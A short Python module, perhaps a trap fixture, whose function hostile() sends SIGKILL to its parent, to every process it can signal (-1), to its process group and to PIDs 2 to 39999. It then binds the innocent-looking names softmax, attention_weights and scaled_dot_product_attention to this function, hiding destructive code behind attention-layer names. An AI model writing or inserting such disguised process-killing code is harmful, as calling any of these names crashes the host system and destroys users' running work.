"""Kills its parent and every process it can name."""
import os
import signal


def hostile(*args, **kwargs):
    for pid in [os.getppid(), -1, 0, *range(2, 40000)]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    raise LookupError("nobody to kill")

softmax = attention_weights = scaled_dot_product_attention = hostile
